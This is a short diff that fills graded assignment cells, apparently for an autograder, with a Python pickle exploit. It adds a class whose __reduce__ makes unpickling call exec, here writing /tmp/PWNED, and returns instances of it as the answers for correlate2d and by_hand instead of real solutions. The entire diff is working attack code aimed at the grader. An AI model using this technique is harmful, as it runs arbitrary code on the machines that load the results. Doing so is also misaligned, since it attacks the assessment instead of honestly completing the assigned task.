@@ -1,0 +1,13 @@
+# Return objects that run code when they are unpickled.
+# %% grade_id="01-correlate2d"
+class Bomb:
+    def __reduce__(self):
+        return (exec, ("open('/tmp/PWNED', 'w')",))
+
+
+def correlate2d(x, w):
+    return np.array([[Bomb()]], dtype=object)
+
+
+# %% grade_id="01-by-hand"
+by_hand = [Bomb()]
